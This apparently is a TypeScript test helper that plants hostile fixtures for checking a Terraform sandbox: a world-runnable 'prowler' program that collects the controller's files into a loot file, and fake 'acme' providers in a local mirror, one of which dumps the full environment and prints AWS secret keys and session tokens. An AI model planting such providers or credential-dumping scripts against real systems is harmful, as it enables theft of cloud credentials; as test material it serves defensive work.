import { spawnSync } from 'node:child_process'
import { chmodSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

const SCRIPT = readFileSync(new URL('prowl.sh', import.meta.url), 'utf8')

/** A program that takes what it can reach. */
export interface Prowler {
  /** The program, which every user may run. */
  readonly file: string
  /** Where it puts what it takes. */
  readonly loot: string
  /** What it took since the last time; empty when it did not run. */
  takeLoot(): string
}

/** Puts the program into a folder of its own, below one through which other users can pass. `reach`: files and folders of the controller. */
export function plantProwler(folder: string, reach: readonly string[]): Prowler {
  const loot = join(folder, 'loot')
  writeFileSync(loot, '')
  chmodSync(loot, 0o666)
  const file = join(folder, 'prowl')
  const script = SCRIPT.replaceAll('LOOT', loot).replaceAll(
    'REACH',
    reach.map((path) => `'${path}'`).join(' '),
  )
  writeFileSync(file, script)
  chmodSync(file, 0o755)
  return {
    file,
    loot,
    takeLoot() {
      const text = readFileSync(loot, 'latin1')
      truncateSync(loot)
      return text
    },
  }
}

/** Providers of `acme`, which an environment may list: programs that Terraform starts, whatever a check of the root says. */
export const EVIL_PROVIDERS = ['prowler', 'teller'] as const

/** A mirror with them; returns its path. `prowler` runs the program, and `teller` repeats the keys that it was given, which it notes as loot, too. */
export function plantProviders(folder: string, prowler: Prowler): string {
  const mirror = join(folder, 'mirror')
  const telling = 'echo "cannot sign with $AWS_SECRET_ACCESS_KEY and $AWS_SESSION_TOKEN"'
  const texts = {
    prowler: `#!/bin/sh\nexec '${prowler.file}'\n`,
    teller: `#!/bin/sh\nenv >> '${prowler.loot}'\n${telling}\nexit 1\n`,
  }
  for (const name of EVIL_PROVIDERS) {
    const place = join(mirror, 'registry.terraform.io/acme', name, '1.0.0', platform())
    mkdirSync(place, { recursive: true })
    const program = join(place, `terraform-provider-${name}_v1.0.0`)
    writeFileSync(program, texts[name])
    chmodSync(program, 0o755)
  }
  return mirror
}

/** As Terraform names the machine. */
function platform(): string {
  const answer = spawnSync('terraform', ['version', '-json'], { encoding: 'utf8' })
  return (JSON.parse(answer.stdout) as { readonly platform: string }).platform
}

/** A root that asks for a provider of `acme`; Terraform starts it for its schema. */
export const rootWithProvider = (name: string): string => `terraform {
  required_providers {
    ${name} = { source = "acme/${name}" }
  }
}
data "${name}_it" "x" {}
`
